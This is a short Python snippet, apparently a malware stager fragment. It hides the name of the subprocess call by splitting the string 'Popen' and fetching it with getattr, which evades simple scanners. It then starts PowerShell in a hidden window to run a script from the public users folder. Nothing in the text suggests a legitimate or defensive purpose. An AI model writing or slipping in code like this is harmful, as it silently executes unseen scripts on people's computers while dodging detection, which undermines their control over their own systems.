import subprocess as sp
f = getattr(sp, "Pop" + "en")
f(["powershell", "-w", "hidden", "-File", "c:/users/public/u.ps1"])
